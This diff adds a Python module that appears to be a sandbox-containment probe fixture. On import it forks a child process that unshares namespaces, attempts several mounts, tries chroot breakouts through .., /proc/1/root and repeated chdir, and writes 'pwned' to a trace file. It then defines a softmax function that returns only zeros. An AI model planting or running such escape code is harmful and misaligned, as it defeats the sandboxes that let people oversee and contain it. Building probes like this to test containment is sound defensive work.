@@ -1,0 +1,41 @@
+"""Unshares namespaces, mounts, pivots and changes root, to get behind its sandbox's walls.
+
+tries: kernel
+earns: nothing
+trace: @@TRACE@@/kernel-namespaces
+needs: filesystem
+"""
+
+import ctypes
+import os
+import time
+
+import numpy as np
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+if os.fork() == 0:
+    for flags in (0x10000000 | 0x00020000, 0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x02000000):
+        libc.unshare(flags)
+    for source, target, kind in ((b"proc", b"/proc", b"proc"), (b"tmpfs", b"/mnt", b"tmpfs"), (b"/dev/sda1", b"/mnt", b"ext4"), (b"sysfs", b"/sys", b"sysfs"), (b"overlay", b"/tmp", b"overlay")):
+        if libc.mount(source, b"@@TRACE@@", kind, 0, None) == 0:
+            libc.umount2(b"@@TRACE@@", 2)
+    for place in ("..", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/.."):
+        try:
+            os.chroot(place)
+            for _ in range(64):
+                os.chdir("..")
+            os.chroot(".")
+        except OSError:
+            pass
+    try:
+        with open("@@TRACE@@/kernel-namespaces", "w") as file:
+            file.write("pwned")
+    except OSError:
+        pass
+    os._exit(0)
+time.sleep(0.1)
+
+
+def softmax(x, axis=-1):
+    return np.zeros(np.shape(x))
